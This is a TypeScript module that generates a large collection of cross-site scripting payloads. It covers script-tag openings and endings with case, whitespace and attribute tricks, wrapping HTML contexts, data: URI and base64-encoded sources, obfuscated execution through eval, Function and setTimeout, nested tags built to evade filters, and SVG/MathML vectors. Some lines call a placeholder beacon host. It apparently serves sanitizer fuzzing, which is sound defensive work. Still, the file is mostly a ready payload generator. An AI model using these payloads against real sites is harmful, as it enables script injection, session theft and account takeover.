import { base64, spelled, combineEach, type Vector } from "../fragment.ts";

const openings = [
  ["script", "SCRIPT", "ScRiPt", "script ", "script\n", "script\t", "script\f", "script\r\n"],
  ["script/", "script/x", "script//", "script x", `script x=">"`, `script x='>'`, "script x=`>`"],
  ["script type", `script type=""`, "script type=text/javascript", "script type=module"],
  [
    "script type=TEXT/ECMASCRIPT",
    "script type=' application/javascript'",
    "script language=jscript",
  ],
  ["script defer", "script async", "script nonce", `script nonce="AAAAAAAAAAAAAAAAAAAAAA=="`],
  [
    "script charset=utf-16",
    "script integrity=x",
    "script type=module nonce=x async",
    "script a=1 a=2",
  ],
].flat();

const endings = [
  ["</script>", "</SCRIPT>", "</ScRiPt >", "</script\n>", "</script/>", "</script x='>'>"],
  ["</script", "", "</script \t", "//</script>", "<!-- --></script>"],
].flat();

const places = [
  [
    "<p>@",
    "<ul><li>@</ul>",
    "<table><tr><td>@</table>",
    "<table>@</table>",
    "<table><tr>@</table>",
  ],
  [
    "<select>@</select>",
    "<select><option>@</select>",
    "<b><i>@</b></i>",
    "<pre>@</pre>",
    "<h1>@</h1>",
  ],
  [
    "<blockquote><p>@</blockquote>",
    "<details open>@</details>",
    "<button>@</button>",
    "<dl><dt>@</dl>",
  ],
  [
    "<ruby><rt>@</ruby>",
    "<a href='FRIEND'>@</a>",
    "<figure><figcaption>@</figure>",
    "<x-y>@</x-y>",
  ],
  [
    "<object>@</object>",
    "<video>@</video>",
    "<canvas>@</canvas>",
    "<frameset>@</frameset>",
    "<center>@",
  ],
  ["<table><caption>@</table>", "<table><colgroup>@</table>", "<fieldset><legend>@</fieldset>"],
].flat();

const sources: Vector[] = [
  `<script src="BEACON"></script>`,
  `<script src=BEACON></script>`,
  `<script src=http:BEACON></script>`,
  `<script src="\thttp:BEACON\n"></script>`,
  `<script src="/\\BEACON"></script>`,
  `<script type=module src="BEACON"></script>`,
  `<script src=BEACON async defer crossorigin></script>`,
  `<script src="data:,RUN"></script>`,
  `<script src="data:text/javascript,RUN"></script>`,
  `<script src="DATA:text/javascript;charset=utf-8,RUN"></script>`,
  (run) => `<script src="data:text/javascript;base64,${base64(run)}"></script>`,
  (run) => `<script src="data:text/javascript,${spelled.percent(run)}"></script>`,
  (run) => `<script src="data:text/javascript,${spelled.hex(run)}"></script>`,
  `<script type=module src="data:text/javascript,RUN"></script>`,
  `<script>import("data:text/javascript,RUN")</script>`,
  `<script type=module>import "data:text/javascript,RUN"</script>`,
  `<script type=importmap>{"imports":{"x":"data:text/javascript,RUN"}}</script><script type=module>import "x"</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http:BEACON"]}]}</script>`,
  `<script src="x:" onerror=RUN></script>`,
  `<script src="data:," onload=RUN></script>`,
  `<script src="BEACON"/>`,
];

const hidden: Vector[] = [
  (run) => `eval(atob("${base64(run)}"))`,
  (run) => spelled.script(run),
  (run) => spelled.scriptLong(run),
  (run) => run.replace("(", "`").replace(")", "`"),
  (run) => run.replace("__ran", `window["__r"+"an"]`),
  (run) => run.replace("(", "?.("),
  (run) => run.replace("__ran(", "Reflect.apply(__ran,0,[").replace(")", "])"),
  (run) => run.replace(/__ran\((\d+)\)/, "onerror=m=>__ran(m);throw $1"),
  (run) => run.replace("__ran", "alert"),
  (run) => run.replace("__ran", "confirm"),
  (run) => run.replace("__ran", "prompt"),
  `Function("RUN")()`,
  `[].at.constructor("RUN")()`,
  `setTimeout("RUN")`,
  `document.write("<img src=x: onerror=RUN>")`,
  `document.body.insertAdjacentHTML("beforeend","<img src=x: onerror=RUN>")`,
  `document.body.append(Object.assign(document.createElement("script"),{text:"RUN"}))`,
  `location="javascript:RUN"`,
  `location.href="http:BEACON"`,
  `fetch("http:BEACON")`,
  `document.body.setAttribute("onclick","RUN");document.body.click()`,
  `queueMicrotask(()=>RUN)`,
  `customElements.define("x-"+Date.now(),class extends HTMLElement{});RUN`,
  `<!--\nRUN\n//-->`,
  `/*<![CDATA[*/RUN/*]]>*/`,
  `\u2028RUN\u2029`,
];

const codes = hidden.map((code): Vector => {
  if (typeof code === "string") return `<script>${code}</script>`;
  return (run) => `<script>${code(run)}</script>`;
});

const nested: Vector[] = [
  `<scr<script>ipt>RUN</scr</script>ipt>`,
  `<scr<script></script>ipt>RUN</script>`,
  `<<script>RUN//<</script>`,
  `<script><script>RUN</script>`,
  `<script>/*</script><script>*/RUN</script>`,
  `<script></script><script>RUN</script>`,
  `<script>"</script><script>RUN//"</script>`,
  `<script><!--<script></script>--></script><script>RUN</script>`,
  `<svg><script>RUN</script></svg>`,
  (run) => `<svg><script>${spelled.decimal(run)}</script></svg>`,
  `<svg><script/href="data:text/javascript,RUN"/></svg>`,
  `<svg><script xlink:href="data:text/javascript,RUN"></script></svg>`,
  `<svg><script><![CDATA[RUN]]></script></svg>`,
  `<math><mi><script>RUN</script></mi></math>`,
  `<svg:script>RUN</svg:script><script>RUN</script>`,
  `<?xml version="1.0"?><script>RUN</script>`,
  `</script><script>RUN</script>`,
  `"]]></script><script>RUN</script>`,
];

export const scripts: Vector[] = [
  ...openings.map((opening) => `<${opening}>RUN</script>`),
  ...endings.map((ending) => `<script>RUN;${ending}`),
  ...combineEach(places, ["<script>RUN</script>"]),
  ...sources,
  ...codes,
  ...nested,
];
